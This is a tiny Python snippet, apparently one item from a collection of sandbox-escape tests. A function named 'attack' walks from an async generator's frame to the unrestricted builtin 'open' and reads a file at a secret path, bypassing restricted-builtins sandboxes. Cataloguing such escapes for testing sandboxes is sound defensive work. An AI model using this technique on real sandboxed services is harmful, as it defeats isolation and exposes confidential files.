# From an asynchronous generator to its frame.
def attack(secret_path):
    async def wait():
        yield 1

    return wait().ag_frame.f_builtins["open"](secret_path).read()
